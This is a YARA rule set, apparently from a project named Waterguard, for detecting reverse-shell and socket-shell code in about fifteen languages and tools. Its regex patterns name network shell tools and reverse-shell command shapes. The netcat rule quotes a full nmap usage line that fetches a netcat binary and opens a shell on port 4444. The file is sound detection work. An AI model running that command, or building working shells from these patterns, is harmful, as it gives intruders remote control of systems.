/*
 * Shells that call their owner, in the languages that attackers paste them in.
 */

rule WG_bash_reverse_shell {
  meta:
    id = "bash-reverse-shell"
    title = "Bash reverse shell"
    category = "backdoor"
    severity = "high"
    confidence = 80
    attack = "T1059.004,T1071"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a = /sh -i[li]{0,2} {0,3}[0-9]{0,2}[>&<]{1,3} {0,2}\/dev\/(tcp|udp)\/[0-9A-Za-z.$_{}-]{1,80}\/[0-9$]/
    $b = /exec [0-9]{1,3}<>\/dev\/(tcp|udp)\/[0-9A-Za-z.$_{}-]{1,80}\/[0-9$][^\n]{0,30}[;\n][^\n]{0,60}(while read[^\n]{0,40}; ?do ?(\$|eval|["'`]|(ba)?sh )|sh <&|cat <&[0-9]{1,3} ?\| ?(while read|(\/bin\/)?(ba)?sh\b))/
    $c = /0<&[0-9]{1,3}-?; ?exec [0-9]{1,3}<>\/dev\/tcp\//
  condition:
    any of them and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
}

rule WG_fifo_reverse_shell {
  meta:
    id = "fifo-reverse-shell"
    title = "Reverse shell through a named pipe"
    category = "backdoor"
    severity = "high"
    confidence = 75
    attack = "T1059.004"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a = /mkfifo [\/A-Za-z0-9._$-]{1,40} ?(;|&&)[^\n]{0,60}sh -i ?2>&1 ?\| ?(nc|ncat|netcat|busybox nc|telnet|openssl s_client)[^\n]{4,120}/
    $b = /mknod [\/A-Za-z0-9._$-]{1,40} p ?(;|&&)[^\n]{0,80}(nc|ncat|netcat|telnet) [^\n]{4,80}sh/
    $c = /mkfifo [^\n]{1,80}\b(nc|ncat|netcat) [^\n|;]{4,60}<[^\n|;]{1,40}\| ?(\/bin\/)?(ba|da)?sh [^\n|;]{0,20}>/
    $d = /\b(nc|ncat|netcat) [^\n|;]{4,60}\| ?(\/bin\/)?(ba|da)?sh( -i)? ?\| ?(nc|ncat|netcat) /
  condition:
    any of them and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
}

rule WG_netcat_shell {
  meta:
    id = "netcat-shell"
    title = "Netcat that hands out a shell"
    category = "backdoor"
    severity = "high"
    confidence = 72
    attack = "T1059.004"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $short = /[;&|\s"'\/]nc ((-[a-zA-Z]{1,6}|[0-9A-Za-z.:$]{2,60}) ){0,6}(-[a-zA-Z]{0,4}|--exe|--sh-exe)([ec] ?["']?\/(usr\/)?bin\/(ba|da|z|a)?sh|[ec] ["']?(ba|da|z|a)?sh)\b/
    $long = /\b(ncat|netcat|nc\.traditional) ((-[a-zA-Z]{1,6}|[0-9A-Za-z.:$]{2,60}) ){0,6}(-[a-zA-Z]{0,4}|--exe|--sh-exe)([ec] ?["']?\/(usr\/)?bin\/(ba|da|z|a)?sh|[ec] ["']?(ba|da|z|a)?sh)\b/
    $first = /^nc ((-[a-zA-Z]{1,6}|[0-9A-Za-z.:$]{2,60}) ){0,6}(-[a-zA-Z]{0,4}|--exe|--sh-exe)([ec] ?["']?\/(usr\/)?bin\/(ba|da|z|a)?sh|[ec] ["']?(ba|da|z|a)?sh)\b/
    // One line of usage in nmap's own script for CVE-2010-2075: only what stands in it does not count.
    $nmap = "$ nmap -d -p6667 --script=irc-unrealircd-backdoor.nse --script-args=irc-unrealircd-backdoor.command='wget http://www.javaop.com/~ron/tmp/nc && chmod +x ./nc && ./nc -l -p 4444 -e /bin/sh' <target>"
  condition:
    ((#short + #long) > #nmap or ($first at 0 and uint16(0) == 0x636e))
    and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
}

rule WG_python_reverse_shell {
  meta:
    id = "python-reverse-shell"
    title = "Python shell on a socket"
    category = "backdoor"
    severity = "high"
    confidence = 80
    attack = "T1059.004,T1059.006"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/006/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $dup = /os\.dup2\( ?[A-Za-z_]{1,20}\.fileno\(\) ?, ?[012] ?\)/
    $dup2 = /os\.dup2\( ?[a-z_]{1,12}(\.fileno\(\))? ?, ?(f|fd|x|i|n) ?\)/
    $wired = /stdin ?= ?(s|c|so|sock|conn|client)(\.fileno\(\)|\.makefile\([^)\n]{0,12}\))? ?,/
    $sh1 = /pty\.spawn\( ?\[? ?["'](\/bin\/)?(ba|z)?sh["']/
    $sh2 = /(subprocess\.)?(call|Popen|run|check_call)\( ?\[? ?["'](\/usr)?\/bin\/(ba|da|z)?sh["']( ?, ?["']-i["'])? ?(\]|\)|, ?std)/
    $sh3 = /os\.(exec[lv]p?e?|system|popen)\( ?["'](\/usr)?\/bin\/(ba|da|z)?sh( -i)?["']/
    $s = "socket"
    $c1 = ".connect(("
    $c2 = ".bind(("
    $c3 = "create_connection(("
  condition:
    $s and any of ($c*) and (#dup > 1 or $dup2 or $wired) and any of ($sh*) and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
}

rule WG_python_socket_commands {
  meta:
    id = "python-socket-commands"
    title = "Python that runs what comes from a socket"
    category = "backdoor"
    severity = "high"
    confidence = 72
    attack = "T1059.006,T1071"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/006/"
    date = "2026-11-25"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $connects = /(\.connect(_ex)?|\.bind|create_connection)\( ?\(/
    // The received text is run in the same statement, or is what the next lines hand to a shell.
    $direct = /(os\.(popen|system)|subprocess\.(getoutput|check_output|Popen|run|call))\( ?[a-z_]{1,12}\.recv\([^\n]{0,60}/
    $received = /\b(c|x|cmd|command|data|order|line|msg) ?= ?[A-Za-z_.]{1,20}\.recv\( ?[0-9A-Za-z_]{1,12} ?\)/
    $run = /(os\.popen|os\.system|subprocess\.(getoutput|check_output|Popen|run|call))\( ?(c|x|cmd|command|data|order|line|msg)(\.decode\([^)\n]{0,20}\)|\.strip\(\)|\[[0-9:]{1,6}\]){0,3} ?[,)]/
  condition:
    $connects and ($direct or for any i in (1..#received) : ($run in (@received[i]..@received[i] + 800))) and uint32(0) != 0x464c457f
}

rule WG_perl_reverse_shell {
  meta:
    id = "perl-reverse-shell"
    title = "Perl shell on a socket"
    category = "backdoor"
    severity = "high"
    confidence = 78
    attack = "T1059.004"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a = /open\s?\(?\s?\*?STDIN ?, ?["'][+]?[<>]&/
    $b = /open\s?\(?\s?\*?STDOUT ?, ?["'][+]?[<>]&/
    $c = /\b(exec|system)\s?[({]?\s?\{?\s?["'](\/usr)?\/bin\/(ba|da|z)?sh( -[il]{1,2})?["']/
    $d = /\$c=new IO::Socket::INET\(PeerAddr,["'][^\n]{4,60}STDIN->fdopen\(\$c,r\)/
    $e = /STDIN->fdopen\(\s?\$[A-Za-z_]{1,12}\s?,/
    $f = /(system|exec)\s?\(?\s?\$(_|1|cmd)\b/
    $s1 = "sockaddr_in"
    $s2 = "IO::Socket"
  condition:
    (($a and $b and $c and any of ($s*)) or $d or ($e and $s2 and ($c or $f))) and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
}

rule WG_php_reverse_shell {
  meta:
    id = "php-reverse-shell"
    title = "PHP reverse shell"
    category = "backdoor"
    severity = "high"
    confidence = 82
    attack = "T1059.004,T1505.003"
    subject = "text"
    reference = "https://github.com/pentestmonkey/php-reverse-shell"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a = "S\x75ccessfully opened reverse shell to"
    $b = "p\x68p-reverse-shell"
    $c = /f[s]ockopen\(["'][0-9.]{7,15}["'], ?[0-9]{2,5}\); ?(exec|shell_exec|system|passthru|popen|proc_open)\(/
    $d = "W\x41RNING: Failed to daemonise"
    $e = "p\x72oc_open($shell"
    $opens = /\b(p?f[s]ockopen|stream_socket_client|socket_create)\s?\(/
    $wired = /\b(proc_open|popen)\s?\(\s?["'](\/usr)?(\/bin\/)?(ba|da)?sh( -i)?["']\s?,\s?(array\s?\(|\[)\s?0\s?=>\s?\$[a-z_]{1,12}\s?,/
    $third = /(\b(exec|shell_exec|system|passthru|popen)\s?\(\s?["']|`)((\/usr)?\/bin\/)?(ba|da)?sh( -i)? ?<&[0-9] ?>&/
  condition:
    ($c or 2 of ($a,$b,$d,$e) or ($opens and ($wired or $third))) and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
}

rule WG_other_reverse_shell {
  meta:
    id = "other-reverse-shell"
    title = "Shell on a socket (Ruby, Lua, awk, socat, OpenSSL, telnet)"
    category = "backdoor"
    severity = "high"
    confidence = 76
    attack = "T1059.004"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $ruby = /TCPSocket\.(new|open)\([^\n]{4,60}exec sprintf\(["']\/bin\/sh -i <&%d/
    $lua = /socket\.tcp\(\)[^\n]{0,20}:connect\([^\n]{4,60}os\.execute\(["']\/bin\/sh -i <&/
    // What a command prints goes back into the socket; pages are fetched over /inet too.
    $awk = /\/inet\/(tcp|udp)\/0\/[^\s"']{2,60}/
    $awkRuns = /\|&? ?getline( [a-z0-9_$]{1,12})?\)? ?> ?0 ?\)\s{0,8}\{?\s{0,8}print( \$0)? ?\|& ?[a-z]/
    $socat = /socat [^\n|;]{0,80}(exec|EXEC|system|SYSTEM):["'\\]{0,2}((\/usr)?\/bin\/)?(ba|da|z|a)?sh( -[il]{1,3})?["'\\, ][^\n]{0,80}\b(tcp|TCP|udp|UDP|openssl|OPENSSL|ssl|SSL)[0-9A-Za-z-]{0,12}:[0-9A-Za-z.$\{\[]/
    $socat2 = /socat [^\n|;]{0,80}\b(tcp|TCP|udp|UDP|openssl|OPENSSL|ssl|SSL)[0-9A-Za-z-]{0,12}:[0-9A-Za-z.$\{\[][^\s]{0,80} [^\n|;]{0,20}(exec|EXEC|system|SYSTEM):["'\\]{0,2}((\/usr)?\/bin\/)?(ba|da|z|a)?sh( -[il]{1,3})? ?(["'\\,\n;&|)]|$)/
    $openssl = /sh -i [^\n]{0,40}openssl s_client -quiet [^\n]{0,10}-connect/
    $telnet = /telnet [0-9A-Za-z.$]{2,60} [0-9$]{1,6} ?\| ?\/bin\/(ba)?sh ?\| ?telnet/
    $telnetPipe = /telnet [0-9A-Za-z.$]{2,60} [0-9$]{1,6} ?0?<[^\n|]{1,40}\| ?(\/bin\/)?(ba|da)?sh 1?>/
    $zsh = /zmodload zsh\/net\/tcp[^\n]{0,20}[;&\n]{1,3}\s{0,4}ztcp [^\n]{4,80}zsh [^\n]{0,10}[<>]&/
    $tcl = /\[socket [^\]\n]{4,60}\][^\n]{0,200}exec \$[a-z]{1,8}\b/
  condition:
    (any of ($ruby,$lua,$socat,$socat2,$openssl,$telnet,$telnetPipe,$zsh,$tcl) or ($awk and $awkRuns)) and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
}

rule WG_node_reverse_shell {
  meta:
    id = "node-reverse-shell"
    title = "Node.js shell on a socket"
    category = "backdoor"
    severity = "high"
    confidence = 80
    attack = "T1059.004,T1059.007"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/007/"
    date = "2026-11-25"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $opens = /\.(Socket|connect|createConnection|createServer)\s?\(/
    $net = /(require\(\s?|from\s?)["'](node:)?(net|tls)["']/
    $shell = /(spawn|exec|execFile)\(\s?["'`]((\/usr)?\/bin\/)?(ba|da|z|a)?sh["'`]\s?[,)]/
    $in = /\.pipe\(\s?[A-Za-z_$][A-Za-z0-9_$]{0,20}\.stdin\b|\b[A-Za-z_$]{1,20}\.stdin\.write\(|stdio["']?\s?:\s?\[\s?[a-z]{1,10}\s?,\s?[a-z]{1,10}\s?,/
    $out = /\.stdout\.pipe\(\s?[A-Za-z_$]|\.stdout\.on\(\s?["']data["']\s?,[^\n]{1,60}\.write\(|stdio["']?\s?:\s?\[\s?[a-z]{1,10}\s?,\s?[a-z]{1,10}\s?,/
  condition:
    $net and $opens and for any i in (1..#shell) : (
      $in in (@shell[i]..@shell[i] + 1500) and $out in (@shell[i]..@shell[i] + 1500)
    ) and uint32(0) != 0x464c457f
}

rule WG_ruby_reverse_shell {
  meta:
    id = "ruby-reverse-shell"
    title = "Ruby shell on a socket"
    category = "backdoor"
    severity = "high"
    confidence = 76
    attack = "T1059.004"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    date = "2026-11-25"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $socket = /TCP(Socket|Server)\.(new|open)\b/
    $popen = /IO\.popen\(\s?[$a-z_]{1,12}\s?,\s?(["']r["']|\?r)\s?\)\s?(\{|do)\s?\|[a-z_]{1,8}\|\s?[a-z_]{1,12}\.(print|puts|write)/
    $handed = /\b(exec|spawn|system)[ (]\s?["']((\/usr)?\/bin\/)?(ba|da|z)?sh( -i)?["'][^\n]{0,20},\s?\[?\s?(:in\b|in:|\$stdin|STDIN|0 ?=>)/
    $reopened = /\$?(stdin|STDIN)\.reopen\(?\s?[a-z_]{1,12}\b/
    $shell = /\b(exec|spawn|system)[ (]\s?["']((\/usr)?\/bin\/)?(ba|da|z)?sh( -i)?["']/
  condition:
    $socket and ($popen or $handed or ($reopened and $shell)) and uint32(0) != 0x464c457f
}

rule WG_lua_reverse_shell {
  meta:
    id = "lua-reverse-shell"
    title = "Lua shell on a socket"
    category = "backdoor"
    severity = "high"
    confidence = 74
    attack = "T1059.011"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/011/"
    date = "2026-11-25"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $socket = /require\s?\(?\s?["']socket["']/
    $connects = /:connect\(|socket\.(connect|bind)\(/
    $receives = ":receive("
    $sends = ":send("
    $runs = /(io\.popen|os\.execute)\(\s?(c|l|cmd|command|line|data|s)\s?[,)]/
    $shell = /os\.execute\(\s?["'](\/usr)?\/bin\/(ba|da)?sh -i/
  condition:
    $socket and $connects and ($shell or ($receives and $runs and $sends)) and uint32(0) != 0x464c457f
}

rule WG_go_reverse_shell {
  meta:
    id = "go-reverse-shell"
    title = "Go source of a shell on a socket"
    category = "backdoor"
    severity = "high"
    confidence = 76
    attack = "T1059.004"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    date = "2026-11-25"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $dials = /\b(net|tls)\.(Dial|DialTimeout|Listen|DialTCP)\(\s?["`](tcp|udp)/
    $shell = /exec\.Command\(\s?["`]((\/usr)?\/bin\/)?(ba|da|z|a)?sh["`](\s?,\s?["`]-i["`])?\s?\)/
    $one = /\.Stdin\s?=\s?[A-Za-z_]{1,20}[;\s]{1,12}[A-Za-z_]{1,20}\.Std(out|err)\s?=\s?[A-Za-z_]{1,20}[;\s]/
    $more = /\.Stdin\s?,\s?[A-Za-z_]{1,20}\.Std(out|err)[^\n=]{0,40}=\s?[A-Za-z_]{1,20}\s?,\s?[A-Za-z_]{1,20}\b/
  condition:
    $dials and for any i in (1..#shell) : (
      $one in (@shell[i]..@shell[i] + 600) or $more in (@shell[i]..@shell[i] + 600)
    ) and uint32(0) != 0x464c457f
}

rule WG_c_reverse_shell {
  meta:
    id = "c-reverse-shell"
    title = "C source of a shell on a socket"
    category = "backdoor"
    severity = "high"
    confidence = 76
    attack = "T1059.004"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    date = "2026-11-25"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $address = /\b(inet_(addr|aton|pton)|htons)\s?\(/
    $peer = /\b(connect|accept|accept4)\s?\(\s?[A-Za-z_]{1,20}\s?,/
    $dup = /\bdup2\s?\(\s?[A-Za-z_]{1,20}\s?,\s?([012]|STD(IN|OUT|ERR)_FILENO|[a-z])\s?\)/
    // Without -c: servers that run commands hand these to a shell, and give no terminal away.
    $shell = /\bexec(ve|v|l|le|lp|vp)\s?\(\s?"(\/usr)?\/bin\/(ba|da|z)?sh"\s?,\s?(0|NULL|argv|args|\{|\(char|"(-?(ba|da|z)?sh|\/bin\/(ba|da|z)?sh)"\s?,\s?("-i"\s?,\s?)?(0|NULL|\(char|\(void))/
  condition:
    $address and $peer and for any i in (1..#shell) : ($dup in (@shell[i] - 600..@shell[i])) and uint32(0) != 0x464c457f
}

rule WG_java_reverse_shell {
  meta:
    id = "java-reverse-shell"
    title = "Java or JSP shell on a socket"
    category = "backdoor"
    severity = "high"
    confidence = 78
    attack = "T1059.004,T1505.003"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    date = "2026-11-25"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $socket = /new (java\.net\.)?(Server)?Socket\s?\(/
    $shell = /(new (java\.lang\.)?ProcessBuilder|getRuntime\(\)\s{0,8}\.exec)\s?\(\s?(new String\s?\[\]\s?\{\s?)?"((\/usr)?\/bin\/)?(ba|da)?sh"(\s?,\s?"-i")?\s?[)}]/
    $named = /String(\[\])? [A-Za-z_]{1,12}\s?=\s?[{(]?\s?"((\/usr)?\/bin\/)?(ba|da)?sh"/
    $started = /(new (java\.lang\.)?ProcessBuilder|getRuntime\(\)\s{0,8}\.exec)\s?\(\s?[A-Za-z_]{1,12}\s?\)/
    $streams = /\.getOutputStream\(\)/
  condition:
    $socket and ($shell or ($named and $started and #streams > 1)) and uint32(0) != 0x464c457f
}
